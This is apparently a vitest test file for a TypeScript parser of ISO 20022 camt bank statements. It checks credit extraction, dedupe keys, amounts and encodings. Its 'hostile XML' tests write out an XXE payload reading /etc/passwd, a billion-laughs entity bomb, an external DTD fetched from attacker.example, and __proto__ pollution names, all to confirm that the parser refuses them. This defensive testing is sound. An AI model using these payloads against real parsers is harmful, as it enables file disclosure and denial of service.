import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  parseStatement,
  parseStatementAmount,
  statementAccountIban,
  type ParsedStatement,
  type StatementCredit,
} from '../../../../core/banking/camt';
import { StatementError } from '../../../../core/banking/statement-error';

const FIXTURES = join(__dirname, '../../../fixtures/camt');
const read = (name: string) => readFileSync(join(FIXTURES, name));
const parse = (name: string) => parseStatement(read(name));

function refused(input: string | Uint8Array, code = 'statement-invalid'): StatementError {
  try {
    parseStatement(input);
  } catch (err) {
    expect(err).toBeInstanceOf(StatementError);
    expect((err as StatementError).code).toBe(code);
    expect((err as StatementError).detail.length).toBeGreaterThan(10);
    return err as StatementError;
  }
  throw new Error('expected the statement to be refused');
}

/** A camt.053 document around some <Ntry> elements. */
function camt053(entries: string, { version = '08', account = '<IBAN>DE89370400440532013000</IBAN>' } = {}): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.${version}">
  <BkToCstmrStmt>
    <GrpHdr><MsgId>MSG-1</MsgId><CreDtTm>2025-03-01T22:00:00+01:00</CreDtTm></GrpHdr>
    <Stmt>
      <Id>STMT-1</Id>
      <CreDtTm>2025-03-02T22:00:00+01:00</CreDtTm>
      <Acct><Id>${account}</Id></Acct>
      ${entries}
    </Stmt>
  </BkToCstmrStmt>
</Document>`;
}

function entry({ amount = '10.00', ccy = 'EUR', cd = 'CRDT', sts = '<Sts><Cd>BOOK</Cd></Sts>', booked = '<BookgDt><Dt>2025-03-02</Dt></BookgDt>', extra = '', details = '' } = {}): string {
  return `<Ntry><Amt Ccy="${ccy}">${amount}</Amt><CdtDbtInd>${cd}</CdtDbtInd>${sts}${booked}${extra}${details ? `<NtryDtls>${details}</NtryDtls>` : ''}</Ntry>`;
}

describe('the genkgo/camt samples', () => {
  const files = readdirSync(FIXTURES).filter((f) => f.endsWith('.xml'));

  it('are all here, with their licence and README', () => {
    expect(files.sort()).toEqual([
      'camt052.v2.xml',
      'camt052.v8.xml',
      'camt053.v2.five.decimals.xml',
      'camt053.v2.minimal.xml',
      'camt053.v2.multi.statement.xml',
      'camt053.v2.wrong.xml',
      'camt053.v4.xml',
      'camt053.v8.xml',
      'camt054.v2.xml',
      'camt054.v4.xml',
      'camt054.v8.xml',
    ]);
    expect(readFileSync(join(FIXTURES, 'LICENSE'), 'utf8')).toContain('MIT License');
    expect(readFileSync(join(FIXTURES, 'README.md'), 'utf8')).toContain('genkgo');
  });

  it.each([
    ['camt052.v2.xml', 'camt.052', 2, 'AAAASESS-FP-ACCR001', { other: 'CH2801234000123456789' }, 0],
    ['camt052.v8.xml', 'camt.052', 8, 'AAAASESS-FP-ACCR001', { other: 'CH2801234000123456789' }, 0],
    ['camt053.v2.five.decimals.xml', 'camt.053', 2, 'CAMT053RIB000000000001', { iban: 'NL26VAYB8060476890' }, 1],
    ['camt053.v2.minimal.xml', 'camt.053', 2, 'CAMT053RIB000000000001', { iban: 'NL26VAYB8060476890' }, 1],
    ['camt053.v2.multi.statement.xml', 'camt.053', 2, 'CAMT053RIB000000000001', { iban: 'NL26VAYB8060476890' }, 1],
    ['camt053.v4.xml', 'camt.053', 4, 'CAMT053RIB000000000001', { other: 'NL26VAYB8060476890' }, 1],
    ['camt053.v8.xml', 'camt.053', 8, 'CAMT053RIB000000000001', { other: 'NL26VAYB8060476890' }, 1],
    ['camt054.v2.xml', 'camt.054', 2, 'AAAASESS-FP-ACCR001', { other: 'CH2801234000123456789' }, 0],
    ['camt054.v4.xml', 'camt.054', 4, 'AAAASESS-FP-ACCR001', { iban: 'CH2801234000123456789' }, 0],
    ['camt054.v8.xml', 'camt.054', 8, 'AAAASESS-FP-ACCR001', { iban: 'CH2801234000123456789' }, 0],
  ] as const)('%s: %s version %i, message %s', (file, kind, version, messageId, account, credits) => {
    const s = parse(file);
    expect(s).toMatchObject({ kind, version, messageId, namespace: `urn:iso:std:iso:20022:tech:xsd:${kind}.001.${String(version).padStart(2, '0')}` });
    expect(s.statements[0]!.account).toEqual(account);
    expect(s.credits).toHaveLength(credits);
    expect(s.reversals).toEqual([]);
    expect(s.warnings).toEqual([]);
  });

  it('the camt.052 and camt.054 samples hold only debits in SEK: nothing to import', () => {
    for (const f of ['camt052.v2.xml', 'camt052.v8.xml', 'camt054.v2.xml', 'camt054.v4.xml', 'camt054.v8.xml']) {
      expect(parse(f).credits, f).toEqual([]);
    }
  });

  it('camt053.v2.minimal: one credit with debtor, IBAN and a (non-RF) structured reference', () => {
    const [c] = parse('camt053.v2.minimal.xml').credits;
    expect(c).toMatchObject({
      amount: 885,
      currency: 'EUR',
      bookedOn: '2014-12-31',
      valueDate: '2015-01-02',
      debtorName: 'NAME NAME',
      debtorIban: 'NL56AGDH9619008421',
      structuredReferences: ['4654654654654654'],
      remittance: null,
      endToEndId: null,
      isReturn: false,
      batch: false,
      statementId: '253EURNL26VAYB8060476890',
    });
    expect(c!.dedupeKey).toMatch(/^[0-9a-f]{64}$/);
  });

  it('camt053.v2.five.decimals: "8.850" is 885 cents; the remittance and EndToEndId are read', () => {
    const [c] = parse('camt053.v2.five.decimals.xml').credits;
    expect(c).toMatchObject({ amount: 885, remittance: 'Transaction Description', endToEndId: '000000001' });
  });

  it('camt053.v2.multi.statement: two statements, the debit of the second is skipped', () => {
    const s = parse('camt053.v2.multi.statement.xml');
    expect(s.statements.map((st) => st.id)).toEqual(['253EURNL26VAYB8060476890', '254EURNL26VAYB8060476890']);
    expect(s.statements.map((st) => st.currency)).toEqual(['EUR', 'EUR']);
    expect(s.credits).toHaveLength(1);
    expect(s.credits[0]).toMatchObject({ statementIndex: 0, remittance: 'Transaction Description 1', amount: 885 });
  });

  it('camt053.v4 and v8: the entry amount counts (the TxDtls says SEK 0), Dbtr/Pty/Nm is read in v8', () => {
    const v4 = parse('camt053.v4.xml').credits[0]!;
    const v8 = parse('camt053.v8.xml').credits[0]!;
    for (const c of [v4, v8]) expect(c).toMatchObject({ amount: 885, debtorName: 'NAME NAME', bookedOn: '2014-12-31', accountServicerRef: 'AAAASESS-FP-CN_98765/01' });
    expect(v8.endToEndId).toBe('MUELL/FINP/RA12345');
    // Same bank reference on the same account: the same booking, whatever the version.
    expect(v4.dedupeKey).toBe(v8.dedupeKey);
  });

  it('camt053.v2.wrong (a statement message without a statement) is refused', () => {
    const err = refused(read('camt053.v2.wrong.xml'));
    expect(err.detail).toContain('<Stmt>');
  });

  it('parses the same bytes given as text', () => {
    expect(parseStatement(read('camt053.v8.xml').toString('utf8'))).toEqual(parse('camt053.v8.xml'));
  });
});

describe('Counterlink samples', () => {
  const sepa = (): ParsedStatement => parse('counterlink/camt053.v08.sepa.xml');
  const credit = (s: ParsedStatement, entryIndex: number, txIndex: number | null = 0): StatementCredit => {
    const c = s.credits.find((x) => x.entryIndex === entryIndex && x.txIndex === txIndex);
    if (!c) throw new Error(`no credit for entry ${entryIndex}`);
    return c;
  };

  it('camt.053.001.08: takes the booked EUR credits, one per transaction', () => {
    const s = sepa();
    expect(s).toMatchObject({ kind: 'camt.053', version: 8, messageId: 'CL-STMT-2025-03-14' });
    expect(s.statements).toEqual([{ id: 'CL-STMT-2025-03-14-1', account: { iban: 'DE89370400440532013000' }, currency: 'EUR' }]);
    // Entries 0-3 (a batch of two), 7 (return) and 9; not the debit (4), pending (5), reversal (6), USD (8).
    expect(s.credits.map((c) => [c.entryIndex, c.txIndex, c.amount])).toEqual([
      [0, 0, 1250],
      [1, 0, 3000],
      [2, 0, 700],
      [3, 0, 2000],
      [3, 1, 2500],
      [7, 0, 1250],
      [9, 0, 50],
    ]);
    expect(new Set(s.credits.map((c) => c.dedupeKey)).size).toBe(s.credits.length);
  });

  it('structured SCOR reference, NOTPROVIDED EndToEndId ignored, debtor IBAN normalised', () => {
    expect(credit(sepa(), 0)).toMatchObject({
      structuredReferences: ['RF91K7Q2M9X4TB3P'],
      endToEndId: null,
      debtorName: 'Erika Mustermann',
      debtorIban: 'DE02120300000000202051',
      accountServicerRef: 'ASR-20250314-0001',
      bookedOn: '2025-03-14',
      isReturn: false,
      batch: false,
    });
  });

  it('Ustrd lines are joined, as sent', () => {
    expect(credit(sepa(), 1)).toMatchObject({
      structuredReferences: [],
      remittance: 'Zahlung Bestellung vom 14.3. rf35 zp4w 8n2r 6j1c danke',
      endToEndId: 'E2E-HANS-77',
      accountServicerRef: null,
    });
    expect(credit(sepa(), 2).remittance).toBe('Kaffee und Kuchen, Ref: CAFE-00Xy. Danke!');
  });

  it('a batch gives one credit per TxDtls with its own amount, debtor and references', () => {
    const s = sepa();
    expect(credit(s, 3, 0)).toMatchObject({ batch: true, amount: 2000, debtorName: 'Firma Eins GmbH', structuredReferences: ['RF77A1B2C3D4E5F6'], accountServicerRef: 'ASR-20250314-0004-A' });
    expect(credit(s, 3, 1)).toMatchObject({ batch: true, amount: 2500, debtorName: 'Firma Zwei GmbH', remittance: 'RF12 H8J2 L5N7 Q1S3', accountServicerRef: 'ASR-20250314-0004-B' });
  });

  it('a return is a credit marked isReturn', () => {
    expect(credit(sepa(), 7)).toMatchObject({ isReturn: true, amount: 1250, remittance: 'Refund RF05W3E5R7T9Y2U4' });
  });

  it('a reversal is reported apart, as a debit', () => {
    const { reversals } = sepa();
    expect(reversals).toHaveLength(1);
    expect(reversals[0]).toMatchObject({
      creditDebit: 'DBIT',
      amount: 1250,
      entryIndex: 6,
      structuredReferences: ['RF91K7Q2M9X4TB3P'],
      accountServicerRef: 'ASR-20250314-0007',
    });
    expect(reversals[0]!.dedupeKey).not.toBe(credit(sepa(), 0).dedupeKey);
  });

  it('the intraday camt.052 and the night camt.053 give the same credits the same keys', () => {
    const rpt = parse('counterlink/camt052.v08.intraday.xml');
    expect(rpt).toMatchObject({ kind: 'camt.052', version: 8 });
    expect(rpt.credits).toHaveLength(2); // the pending one is skipped
    const stmt = sepa();
    const keys = new Set(stmt.credits.map((c) => c.dedupeKey));
    for (const c of rpt.credits) expect(keys.has(c.dedupeKey), `${c.amount}`).toBe(true);
    // By bank reference for one, by fingerprint for the other (no AcctSvcrRef).
    expect(rpt.credits.map((c) => c.accountServicerRef)).toEqual([null, 'ASR-20250314-0001']);
  });

  it('the same file twice gives the same keys', () => {
    expect(sepa().credits.map((c) => c.dedupeKey)).toEqual(sepa().credits.map((c) => c.dedupeKey));
  });

  it('camt.053.001.02 with a ns2: prefix, plain Sts, AmtDtls amounts and ISO-8859-1 text', () => {
    const s = parse('counterlink/camt053.v02.prefixed.xml');
    expect(s).toMatchObject({ kind: 'camt.053', version: 2, messageId: 'CL-V2-0001' });
    expect(s.statements[0]!.account).toEqual({ iban: 'DE89370400440532013000' });
    expect(s.credits.map((c) => [c.amount, c.batch, c.txIndex])).toEqual([
      [1990, false, 0],
      [1000, true, 0],
      [500, true, 1],
    ]);
    expect(s.credits[0]).toMatchObject({ debtorName: 'Jürgen Groß', structuredReferences: ['RF40M0N1B2V3C4X5'], endToEndId: null });
    expect(s.credits[1]!.remittance).toBe('Bestellung CAFE-00Xy');
  });

  it('camt.053.001.13: Othr/Id account, an entry without details, INFO skipped', () => {
    const s = parse('counterlink/camt053.v13.xml');
    expect(s).toMatchObject({ kind: 'camt.053', version: 13 });
    expect(s.statements[0]!.account).toEqual({ other: 'DE89 3704 0044 0532 0130 00' });
    expect(statementAccountIban(s.statements[0]!.account)).toBe('DE89370400440532013000');
    expect(s.credits).toHaveLength(2);
    expect(s.credits[0]).toMatchObject({ amount: 10000, structuredReferences: ['RF35ZP4W8N2R6J1C'], endToEndId: 'INV-2025-0042', additionalInfo: 'SEPA Credit Transfer', valueDate: '2025-03-17' });
    expect(s.credits[1]).toMatchObject({ amount: 320, txIndex: null, debtorName: null, structuredReferences: [], remittance: null, additionalInfo: 'Zinsgutschrift' });
  });

  it('camt.054.001.04: a notification with a refId in Ustrd and Dbtr/Nm', () => {
    const s = parse('counterlink/camt054.v04.xml');
    expect(s).toMatchObject({ kind: 'camt.054', version: 4, messageId: 'CL-NTF-0001' });
    expect(s.credits).toEqual([
      expect.objectContaining({ amount: 700, remittance: 'Counterlink SHOP-a7Bx', debtorName: 'Anna Svensson', debtorIban: 'SE4550000000058398257466', bookedOn: '2025-03-17' }),
    ]);
  });
});

describe('entries', () => {
  it('skips debits, pending, informational, non-EUR and zero entries', () => {
    const s = parseStatement(
      camt053(
        [
          entry({ cd: 'DBIT' }),
          entry({ sts: '<Sts><Cd>PDNG</Cd></Sts>' }),
          entry({ sts: '<Sts>PDNG</Sts>' }),
          entry({ sts: '<Sts><Cd>INFO</Cd></Sts>' }),
          entry({ ccy: 'CHF' }),
          entry({ amount: '0.00' }),
          entry({ amount: '1.00' }),
        ].join(''),
      ),
    );
    expect(s.credits.map((c) => [c.entryIndex, c.amount])).toEqual([[6, 100]]);
  });

  it('reads the plain <Sts> of old versions and <Sts><Cd> of new ones', () => {
    expect(parseStatement(camt053(entry({ sts: '<Sts>BOOK</Sts>' }), { version: '02' })).credits).toHaveLength(1);
    expect(parseStatement(camt053(entry(), { version: '13' })).credits).toHaveLength(1);
  });

  it('takes the booking date from Dt or DtTm, then ValDt, then the statement date', () => {
    const s = parseStatement(
      camt053(
        [
          entry({ booked: '<BookgDt><DtTm>2025-03-05T23:59:00+01:00</DtTm></BookgDt>' }),
          entry({ booked: '<ValDt><Dt>2025-03-06</Dt></ValDt>' }),
          entry({ booked: '' }),
        ].join(''),
      ),
    );
    expect(s.credits.map((c) => c.bookedOn)).toEqual(['2025-03-05', '2025-03-06', '2025-03-02']);
  });

  it('two look-alike transfers on one day stay two credits with different keys', () => {
    const details = '<TxDtls><RmtInf><Ustrd>RF18539007547034</Ustrd></RmtInf></TxDtls>';
    const s = parseStatement(camt053(entry({ details }) + entry({ details })));
    expect(s.credits).toHaveLength(2);
    expect(s.credits[0]!.dedupeKey).not.toBe(s.credits[1]!.dedupeKey);
    // …and a later file that lists only the first gives it the first one's key.
    expect(parseStatement(camt053(entry({ details }))).credits[0]!.dedupeKey).toBe(s.credits[0]!.dedupeKey);
  });

  it('keys depend on the account', () => {
    const a = parseStatement(camt053(entry({ extra: '<AcctSvcrRef>X1</AcctSvcrRef>' })));
    const b = parseStatement(camt053(entry({ extra: '<AcctSvcrRef>X1</AcctSvcrRef>' }), { account: '<IBAN>NL91ABNA0417164300</IBAN>' }));
    expect(a.credits[0]!.dedupeKey).not.toBe(b.credits[0]!.dedupeKey);
  });

  it('a batch whose transactions do not add up is one credit without details, with a warning', () => {
    const tx = (amt: string, ref: string) => `<TxDtls><Amt Ccy="EUR">${amt}</Amt><RmtInf><Ustrd>${ref}</Ustrd></RmtInf></TxDtls>`;
    const s = parseStatement(camt053(entry({ amount: '30.00', details: tx('10.00', 'RF18539007547034') + tx('15.00', 'RF712348231') })));
    expect(s.credits).toEqual([expect.objectContaining({ amount: 3000, batch: true, txIndex: null, remittance: null, structuredReferences: [] })]);
    expect(s.warnings).toHaveLength(1);
    expect(s.warnings[0]).toContain('do not add up');
    const missing = parseStatement(camt053(entry({ amount: '30.00', details: '<TxDtls/><TxDtls/>' })));
    expect(missing.credits).toHaveLength(1);
    expect(missing.warnings).toHaveLength(1);
  });

  it('a reversal of a debit (CRDT with RvslInd) is reported as such', () => {
    const s = parseStatement(camt053(entry({ extra: '<AcctSvcrRef>R1</AcctSvcrRef>', sts: '<RvslInd>true</RvslInd><Sts><Cd>BOOK</Cd></Sts>' })));
    expect(s.credits).toEqual([]);
    expect(s.reversals).toEqual([expect.objectContaining({ creditDebit: 'CRDT', amount: 1000 })]);
  });

  it('a pending reversal is skipped', () => {
    const s = parseStatement(camt053(entry({ cd: 'DBIT', sts: '<RvslInd>true</RvslInd><Sts><Cd>PDNG</Cd></Sts>' })));
    expect(s.reversals).toEqual([]);
  });

  it('decodes entities and character references, and keeps CDATA literal', () => {
    const details = '<TxDtls><RltdPties><Dbtr><Nm>M&#252;ller &amp; S&#xF6;hne &lt;GmbH&gt;</Nm></Dbtr></RltdPties><RmtInf><Ustrd><![CDATA[a &amp; b <c>]]></Ustrd></RmtInf></TxDtls>';
    const [c] = parseStatement(camt053(entry({ details }))).credits;
    expect(c!.debtorName).toBe('Müller & Söhne <GmbH>');
    expect(c!.remittance).toBe('a &amp; b <c>');
  });

  it('refuses an entry without amount, currency or a credit/debit indicator', () => {
    refused(camt053('<Ntry><Amt>1.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts>BOOK</Sts></Ntry>'));
    refused(camt053('<Ntry><CdtDbtInd>CRDT</CdtDbtInd><Sts>BOOK</Sts></Ntry>'));
    refused(camt053(entry({ cd: 'CREDIT' })));
  });

  it('refuses a credit with a fraction of a cent, naming the entry', () => {
    const err = refused(camt053(entry({ amount: '10.005' })));
    expect(err.detail).toContain('entry 1');
    expect(err.detail).toContain('10.005');
  });
});

describe('parseStatementAmount', () => {
  it.each([
    ['12.50', 1250],
    ['12.5', 1250],
    ['12', 1200],
    ['0.01', 1],
    ['100.00000', 10000],
    ['8.850', 885],
    ['  7.00 ', 700],
    ['+3.10', 310],
    ['.5', 50],
    ['5.', 500],
    ['0000012.30', 1230],
    ['9999999999999.99', 999999999999999],
  ])('%j -> %i cents', (text, cents) => {
    expect(parseStatementAmount(text)).toBe(cents);
  });

  it.each(['12.345', '0.001', '1.00001', '-1.00', '1e3', '1,00', '', '.', 'abc', '10000000000000.00', '0x10'])('refuses %j', (text) => {
    expect(() => parseStatementAmount(text)).toThrow(StatementError);
  });
});

describe('what is not a camt statement', () => {
  it.each([
    ['plain text', 'hello'],
    ['JSON', '{"credits": []}'],
    ['empty', ''],
    ['blank', '   \n'],
    ['HTML', '<html><body><p>hi</body></html>'],
    ['unclosed', '<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt>'],
    ['two roots', '<a/><b/>'],
    ['no namespace', '<Document><BkToCstmrStmt/></Document>'],
    ['a payment order', '<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"><CstmrCdtTrfInitn/></Document>'],
    ['camt.056', '<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.056.001.08"><FIToFIPmtCxlReq/></Document>'],
    ['version .001.01', camt053('', { version: '01' })],
    ['version .001.14', camt053('', { version: '14' })],
    ['another root', '<Statement xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"/>'],
    ['message of another kind', '<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrAcctRpt/></Document>'],
    ['no message id', camt053('').replace('<MsgId>MSG-1</MsgId>', '')],
    ['no account', camt053('').replace(/<Acct>.*<\/Acct>/, '')],
    ['no statement id', camt053('').replace('<Id>STMT-1</Id>', '')],
    ['undeclared entity', camt053(entry({ details: '<TxDtls><RmtInf><Ustrd>a&nbsp;b</Ustrd></RmtInf></TxDtls>' }))],
  ])('%s', (_name, xml) => {
    refused(xml);
  });

  it('says where the XML is broken', () => {
    expect(refused('<Document>\n<a></b></Document>').detail).toMatch(/line 2/);
  });

  it('accepts every version from .001.02 to .001.13', () => {
    for (let v = 2; v <= 13; v++) {
      const version = String(v).padStart(2, '0');
      expect(parseStatement(camt053(entry(), { version })).version).toBe(v);
    }
  });
});

describe('encodings', () => {
  const xml = camt053(entry({ details: '<TxDtls><RltdPties><Dbtr><Nm>Zoë Ærø</Nm></Dbtr></RltdPties></TxDtls>' }));

  it('reads UTF-8 bytes with and without a BOM', () => {
    expect(parseStatement(Buffer.from(xml, 'utf8')).credits[0]!.debtorName).toBe('Zoë Ærø');
    expect(parseStatement(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(xml, 'utf8')])).credits[0]!.debtorName).toBe('Zoë Ærø');
    expect(parseStatement(`\uFEFF${xml}`).credits[0]!.debtorName).toBe('Zoë Ærø');
  });

  it('reads ISO-8859-1 when the declaration says so', () => {
    const latin1 = Buffer.from(xml.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"'), 'latin1');
    expect(parseStatement(latin1).credits[0]!.debtorName).toBe('Zoë Ærø');
  });

  it('reads UTF-16 with a BOM', () => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml.replace('encoding="UTF-8"', 'encoding="UTF-16"'), 'utf16le')]);
    expect(parseStatement(utf16).credits[0]!.debtorName).toBe('Zoë Ærø');
  });

  it('refuses bytes that are not valid UTF-8, and unknown encodings', () => {
    refused(Buffer.from(xml, 'latin1'));
    refused(Buffer.from(xml.replace('encoding="UTF-8"', 'encoding="X-KLINGON"'), 'utf8'));
  });
});

describe('hostile XML', () => {
  it('refuses a DOCTYPE with an external entity (XXE) outright', () => {
    const xxe = `<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt><GrpHdr><MsgId>&xxe;</MsgId></GrpHdr></BkToCstmrStmt></Document>`;
    const err = refused(xxe);
    expect(err.detail).toMatch(/DOCTYPE/);
    expect(err.detail).not.toContain('root:');
  });

  it('refuses the billion laughs', () => {
    const lol = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>`;
    const started = Date.now();
    expect(refused(lol).detail).toMatch(/DOCTYPE|ENTITY/);
    expect(Date.now() - started).toBeLessThan(1000);
  });

  it('refuses DOCTYPE in any case, a bare ENTITY declaration, and a DOCTYPE inside a statement', () => {
    refused('<!doctype Document><Document/>');
    refused(`<!ENTITY x "y">${camt053('')}`);
    refused(camt053('').replace('<BkToCstmrStmt>', '<!DOCTYPE x [ ]><BkToCstmrStmt>'));
    refused(Buffer.from(`<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">${camt053('')}`));
  });

  it('does not let element names pollute prototypes', () => {
    // A prefixed __proto__ becomes "__proto__" once prefixes are dropped: it must stay a plain key.
    const s = parseStatement(camt053(entry({ details: '<TxDtls><x:__proto__ xmlns:x="urn:x"><polluted>yes</polluted></x:__proto__></TxDtls>' })));
    expect(s.credits).toHaveLength(1);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    // Unprefixed, the parser refuses such names itself.
    refused(camt053(entry({ details: '<TxDtls><__proto__><polluted>yes</polluted></__proto__></TxDtls>' })));
    refused(camt053(entry({ details: '<TxDtls><constructor>1</constructor></TxDtls>' })));
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('refuses absurdly deep nesting', () => {
    const deep = camt053(entry({ details: `<TxDtls>${'<a>'.repeat(500)}${'</a>'.repeat(500)}</TxDtls>` }));
    refused(deep);
  });
});

describe('size limit', () => {
  const LIMIT = 10 * 1024 * 1024;

  it('refuses more than 10 MB of bytes before parsing', () => {
    // Not XML at all: a parser would say "invalid"; the size check answers first.
    const big = Buffer.alloc(LIMIT + 1, 0x3c);
    const started = Date.now();
    refused(big, 'statement-too-large');
    expect(Date.now() - started).toBeLessThan(500);
  });

  it('refuses a string over 10 MB, counted in UTF-8 bytes', () => {
    refused('<'.repeat(LIMIT + 1), 'statement-too-large');
    refused('é'.repeat(LIMIT / 2 + 1), 'statement-too-large'); // 5 M characters, 10 MB + 2 bytes
  });

  it('accepts a statement just under the limit', () => {
    const filler = `<!--${'x'.repeat(LIMIT - 2000)}-->`;
    const xml = camt053(entry()).replace('<BkToCstmrStmt>', `${filler}<BkToCstmrStmt>`);
    expect(Buffer.byteLength(xml)).toBeLessThanOrEqual(LIMIT);
    expect(parseStatement(xml).credits).toHaveLength(1);
  });
});
